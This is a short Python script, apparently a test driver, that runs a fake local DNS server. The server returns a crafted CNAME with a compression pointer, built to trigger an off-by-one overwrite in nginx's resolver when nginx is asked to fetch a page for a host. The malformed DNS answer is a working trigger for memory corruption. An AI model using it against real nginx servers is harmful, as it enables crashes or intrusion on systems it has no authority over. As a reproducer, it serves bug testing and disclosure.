"""drive HTTP-PORT DNS-PORT: asks nginx for a page of a host, and is the name server that it asks for the host.

The answer is a CNAME of 24 letters that goes on with a compression pointer to a zero: the length that was counted leaves no room for the
dot that is written behind the letters."""

import socket
import struct
import sys
import threading
import time


def answer(server):
    while True:
        question, client = server.recvfrom(4096)
        name = b"\x18" + b"a" * 24 + b"\xc0\x0a"  # the header's byte 10 is 0
        record = b"\xc0\x0c" + struct.pack(">HHIH", 5, 1, 60, len(name)) + name
        asked = question[12:question.index(b"\0", 12) + 5]
        server.sendto(question[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + asked + record, client)


def ask(port, host):
    """Returns whether there was somebody to ask."""
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as client:
            client.settimeout(1)
            client.sendall(b"GET /?host=%s HTTP/1.0\r\n\r\n" % host)
            client.recv(1)
    except TimeoutError:
        return True
    except OSError:
        return False
    return True


with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as names:
    names.bind(("127.0.0.1", int(sys.argv[2])))
    threading.Thread(target=answer, args=(names,), daemon=True).start()
    for _ in range(200):
        if ask(int(sys.argv[1]), b"host.example"):
            break
        time.sleep(0.05)
    time.sleep(0.5)
